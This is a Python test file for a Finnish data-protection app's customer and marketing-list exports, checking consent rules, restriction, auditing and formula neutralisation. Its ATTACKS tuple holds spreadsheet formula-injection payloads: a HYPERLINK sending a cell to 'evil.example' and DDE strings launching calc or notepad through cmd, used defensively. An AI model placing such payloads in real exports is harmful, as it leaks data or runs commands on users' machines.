"""Exports: the customer list as CSV and XLSX without restricted people, marketing lists for one
channel and one purpose that hold only who the rules allow (with the basis) and count the rest
by reason, exports audited without names, and cells that a spreadsheet would run as formulas
neutralised."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from xml.etree import ElementTree

import pytest
from helpers.properties import examples
from helpers.sample import person
from hypothesis import given, settings
from hypothesis import strategies as st

from tietosuoja_desktop.domain.enums import ConsentAction, CustomerKind, OrderStatus
from tietosuoja_desktop.domain.marketing import Exclusion, MarketingChannel, MarketingPurpose
from tietosuoja_desktop.domain.records import ConsentEvent, Order
from tietosuoja_desktop.services.csv_files import neutralised, read_table
from tietosuoja_desktop.services.exporting import Exporter, ExportFormat
from tietosuoja_desktop.services.importing import Importer
from tietosuoja_desktop.services.marketing import ChoiceKind, UnknownPurpose

PURPOSE = "Uutiskirje sähköpostitse"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1;"Avaa")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1 Aino",  # a name needs a letter; a leading tab would be trimmed (test_neutralised)
)


@pytest.fixture
def exporter(services):
    return Exporter(services)


def consent(services, customer, action: str, day: int, purpose: str = PURPOSE, channel=None):
    services.activity.add_consent(
        ConsentEvent(
            customer.id,
            ConsentAction(action),
            purpose,
            datetime(2026, 1, day, 12),
            marketing_channel=channel,
        )
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "+358401234567"),  # a plain number cannot run anything
        ("-5", "-5"),
        ("-5+1", "'-5+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Aino", "Aino"),
        ("", ""),
    ],
)
def test_neutralised(value, expected):
    assert neutralised(value) == expected


def test_each_cell_of_a_written_row_is_neutralised_wherever_it_stands(tmp_path):
    """write_csv looks for a formula in the whole row at once and neutralises cell by cell only
    a row that has one: first, last, beside empty cells, after a cell holding the separator it
    joins them with; other values (None, numbers, days) as before."""
    from tietosuoja_desktop.services.csv_files import write_csv

    rows = [
        ["=1+1", "x", None],
        [None, 5, "@A1"],
        ["a\x1f", "=b", date(2026, 1, 2)],
        ["a\x1f=b", "-5", "+358401234567"],
        ["Aino", "", 3.5],
    ]
    path = tmp_path / "rows.csv"
    assert write_csv(path, ["A", "B", "C"], rows) == 5
    written = [row.values for row in read_table(path).rows]
    expected = [
        ("'=1+1", "x", ""),
        ("", "5", "'@A1"),
        ("a\x1f", "'=b", "2026-01-02"),
        ("a\x1f=b", "-5", "+358401234567"),
        ("Aino", "", "3.5"),
    ]
    assert [tuple(values) for values in written] == expected


@settings(max_examples=examples(2000), deadline=None)
@given(
    st.lists(
        st.one_of(st.none(), st.integers(), st.text("=+-@\t\r0123456789.,ab \x1f")), max_size=6
    )
)
def test_a_row_is_neutralised_as_each_of_its_cells_would_be(row):
    from tietosuoja_desktop.services.csv_files import row_cells

    assert row_cells(row) == ["" if v is None else neutralised(str(v)) for v in row]


def test_customer_list_csv(services, exporter, tmp_path):
    names = [services.customers.add(person(first_name=a, email=f"p{i}@example.fi")).id
             for i, a in enumerate(ATTACKS)]  # fmt: skip
    plain = services.customers.add(person(first_name="Aino", email="aino@example.fi"))
    hidden = services.customers.add(person(first_name="Rajattu", email="r@example.fi"))
    services.customers.restrict(hidden.id)

    path = tmp_path / "asiakkaat.csv"
    report = exporter.customers(path)
    assert (report.format, report.exported) == (ExportFormat.CSV, len(names) + 1)
    assert report.left_out == {Exclusion.RESTRICTED.value: 1}
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with a BOM
    table = read_table(path)
    assert table.delimiter == ";"
    rows = {row.values[0]: dict(zip(table.headers, row.values, strict=True)) for row in table.rows}
    assert str(hidden.id) not in rows
    for customer_id, attack in zip(names, ATTACKS, strict=True):
        assert rows[str(customer_id)]["First name"] == "'" + attack
    aino = rows[str(plain.id)]
    assert aino["Phone"] == "+358407654321"
    assert aino["Customer since"] == "2026-11-22"
    assert "Personal identity code" not in table.headers


def test_an_exported_list_imports_back_as_it_was(services, exporter, tmp_path):
    services.customers.add(person(first_name=ATTACKS[0], email="x@example.fi"))
    path = tmp_path / "list.csv"
    exporter.customers(path)
    preview = Importer(services).preview(Importer.read(path))
    assert preview.rows[0].customer.first_name == ATTACKS[0]


def _sheet_cells(path, number: int = 1):
    with zipfile.ZipFile(path) as archive:
        sheet = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
    quoted = [
        index
        for index, xf in enumerate(styles.find(f"{MAIN}cellXfs"))
        if xf.get("quotePrefix") == "1"
    ]
    cells = {}
    for cell in sheet.iter(f"{MAIN}c"):
        assert cell.find(f"{MAIN}f") is None, "no cell may hold a formula"
        text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
        value = cell.find(f"{MAIN}v")
        cells[cell.get("r")] = (
            cell.get("t"),
            text if value is None else value.text,
            int(cell.get("s", 0)) in quoted,
        )
    return cells


def test_customer_list_xlsx_holds_text_not_formulas(services, exporter, tmp_path):
    for index, attack in enumerate(ATTACKS):
        services.customers.add(person(first_name=attack, email=f"p{index}@example.fi"))
    path = tmp_path / "asiakkaat.xlsx"
    report = exporter.customers(path)
    assert (report.format, report.exported) == (ExportFormat.XLSX, len(ATTACKS))
    cells = _sheet_cells(path)
    assert cells["A1"][1] == "Id" and cells["C1"][1] == "First name"
    assert cells["A2"][:2] == (None, "1")  # ids are numbers
    for row, attack in enumerate(ATTACKS, start=2):
        kind, text, quote_prefix = cells[f"C{row}"]
        assert (kind, text, quote_prefix) == ("inlineStr", attack, True)
    assert cells["D2"][2] is False  # an ordinary name gets no quote prefix
    assert not list(tmp_path.glob(".*part"))


def test_rows_past_what_a_sheet_holds_go_on_in_further_sheets(
    services, exporter, tmp_path, monkeypatch
):
    """Excel's sheet holds 1,048,575 rows under its header, and xlsxwriter leaves out a row
    past it without a word: a register larger than that went out short. Told here that a
    sheet holds two rows, five customers fill three sheets, each with the headers."""
    from tietosuoja_desktop.services import exporting

    monkeypatch.setattr(exporting, "SHEET_ROWS", 2)
    names = ["Aino", "Bertta", "Cecilia", "Doris", "Eeva"]
    for index, name in enumerate(names):
        services.customers.add(person(first_name=name, email=f"p{index}@example.fi"))
    path = tmp_path / "asiakkaat.xlsx"
    assert exporter.customers(path).exported == 5
    with zipfile.ZipFile(path) as archive:
        book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
    sheets = [sheet.get("name") for sheet in book.iter(f"{MAIN}sheet")]
    assert sheets == ["Customers", "Customers 2", "Customers 3"]
    found = []
    for number in (1, 2, 3):
        cells = _sheet_cells(path, number)
        assert cells["C1"][1] == "First name"
        found += [cells[f"C{row}"][1] for row in (2, 3) if f"C{row}" in cells]
    assert found == names


def test_the_email_list_holds_who_may_be_sent_email_with_the_basis(services, exporter, tmp_path):
    add = services.customers.add
    given = add(person(first_name="Saa", email="saa@example.fi"))
    consent(services, given, "given", 1)
    again = add(person(first_name="Uudelleen", email="u@example.fi"))
    for action, day in (("given", 1), ("withdrawn", 2), ("given", 3)):
        consent(services, again, action, day)
    withdrawn = add(person(first_name="Peruttu", email="p@example.fi"))
    consent(services, withdrawn, "given", 1)
    consent(services, withdrawn, "withdrawn", 5)
    consent(services, add(person(first_name="Muu", email="m@example.fi")), "given", 1, "Muu")
    add(person(first_name="Ei", email="ei@example.fi"))
    prohibited = add(person(first_name="Kielto", email="k@example.fi"))
    consent(services, prohibited, "given", 1)
    services.customers.prohibit_marketing(prohibited.id)
    restricted = add(person(first_name="Rajattu", email="r@example.fi"))
    consent(services, restricted, "given", 1)
    services.customers.restrict(restricted.id)
    refused = add(person(first_name="Kieltäytyi", email="ki@example.fi"))
    consent(services, refused, "given", 1)
    services.marketing.record_choice(refused.id, MarketingChannel.EMAIL, ChoiceKind.REFUSED)
    consent(services, add(person(first_name="Osoitteeton", email="")), "given", 1)
    add(
        person(
            first_name="Yritys",
            email="y@example.fi",
            kind=CustomerKind.ORGANISATION,
            organisation="Oy Yritys Ab",
        )
    )
    lapsed = add(person(first_name="Vanha", email="v@example.fi"))
    services.activity.add_order(Order(lapsed.id, date(2023, 1, 5), "T-1"))
    buyer = add(person(first_name="Ostaja", email="o@example.fi"))
    services.activity.add_order(Order(buyer.id, date(2026, 2, 1), "T-2"))
    cancelled = add(person(first_name="Peruttu tilaus", email="pt@example.fi"))
    services.activity.add_order(
        Order(cancelled.id, date(2026, 2, 1), "T-3", status=OrderStatus.CANCELLED)
    )

    purpose = services.marketing.purpose(f"  {PURPOSE} ")
    path = tmp_path / "markkinointi.csv"
    report = exporter.marketing(path, purpose, MarketingChannel.EMAIL)
    assert (report.exported, report.channel, report.purpose) == (2, "email", PURPOSE)
    assert report.left_out == {
        Exclusion.CONSENT_WITHDRAWN.value: 1,
        Exclusion.NO_CONSENT.value: 6,  # Ei, Muu, the company, Vanha, Ostaja, Peruttu tilaus
        Exclusion.PROHIBITED.value: 1,
        Exclusion.RESTRICTED.value: 1,
        Exclusion.REFUSED.value: 1,
        Exclusion.NO_ADDRESS.value: 1,
    }
    table = read_table(path)
    rows = {r.values[table.headers.index("E-mail")]: tuple(r.values[-2:]) for r in table.rows}
    assert rows == {
        "saa@example.fi": ("consent", "2026-01-01"),
        "u@example.fi": ("consent", "2026-01-03"),
    }

    # Own similar products: the recent buyer on the existing-customer rule; the old one lapsed.
    own = MarketingPurpose(PURPOSE, own_similar_products=True, business_role=True)
    report = exporter.marketing(tmp_path / "own.xlsx", own, MarketingChannel.EMAIL)
    assert report.format is ExportFormat.XLSX and report.exported == 4  # + Ostaja, the company
    assert report.left_out[Exclusion.CUSTOMER_BASIS_LAPSED.value] == 1
    cells = _sheet_cells(tmp_path / "own.xlsx")
    bases = {cells[f"K{row}"][1] for row in range(2, 6)}
    assert bases == {"consent", "existing customer", "business contact"}

    # Post is opt-out: everyone with an address but the refusals of other channels count not.
    post = exporter.marketing(tmp_path / "post.csv", purpose, MarketingChannel.POST)
    assert post.exported == 11 and post.left_out == {
        Exclusion.PROHIBITED.value: 1,
        Exclusion.RESTRICTED.value: 1,
    }


def test_an_unknown_purpose_is_refused_with_the_known_ones(services):
    services.activity.add_consent(
        ConsentEvent(
            services.customers.add(person()).id, ConsentAction.GIVEN, PURPOSE, datetime(2026, 1, 1)
        )
    )
    with pytest.raises(UnknownPurpose) as caught:
        services.marketing.purpose("Kevätale")
    assert caught.value.known == [PURPOSE]


def test_a_purpose_is_found_by_its_number_or_text(services):
    from tietosuoja_desktop.services.demo import generate_demo
    from tietosuoja_desktop.services.demo_words import MARKETING_PURPOSE

    generate_demo(services, 3, seed=2)  # declares a consent purpose in the marketing register
    known = services.marketing.purposes()
    number = str(known.index(MARKETING_PURPOSE) + 1)
    found = services.marketing.purpose(number, own_similar_products=True)
    assert (found.id, found.own_similar_products) == (MARKETING_PURPOSE, True)
    assert services.marketing.purpose(MARKETING_PURPOSE).id == MARKETING_PURPOSE
    with pytest.raises(UnknownPurpose):
        services.marketing.purpose(str(len(known) + 1))


def test_exports_are_audited_without_names(services, exporter, tmp_path):
    services.customers.add(person(first_name="Aino"))
    exporter.customers(tmp_path / "a.csv", translate=lambda context, source: source.upper())
    entry = services.audit.recent(1)[0]
    assert (entry.action, entry.entity) == ("export", "customer")
    assert entry.fields == ("customer_list", "csv", "count=1")
    assert read_table(tmp_path / "a.csv").headers[0] == "ID"  # headers in the user's language


def test_a_marketing_export_is_audited_with_channel_purpose_and_count(services, exporter, tmp_path):
    aino = services.customers.add(person(first_name="Aino"))
    consent(services, aino, "given", 1, "Uutiset, tarjoukset")
    purpose = services.marketing.purpose("Uutiset, tarjoukset")
    exporter.marketing(tmp_path / "a.csv", purpose, MarketingChannel.SMS)
    entry = services.audit.recent(1)[0]
    assert entry.fields == (
        "marketing_list",
        "csv",
        "channel=sms",
        "purpose=Uutiset tarjoukset",
        "count=1",
    )
    assert "Aino" not in ",".join(entry.fields)
